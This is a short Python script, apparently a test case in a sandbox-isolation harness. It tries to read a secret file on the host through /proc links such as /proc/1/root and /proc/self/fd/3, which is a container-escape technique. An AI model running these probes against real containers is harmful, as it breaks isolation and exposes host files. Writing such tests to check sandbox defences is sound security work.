"""Reach the host's files through the links in /proc."""

import os

import kit

WAYS = "/proc/1/root /proc/self/root /proc/1/cwd/.. /proc/self/fd/3 /proc/1/fd/3"


def attack():
    secret = os.environ["HOST_SECRET_FILE"]
    return kit.any_of(*(lambda w=w: open(w + secret, "rb") for w in WAYS.split()))


kit.play(attack)
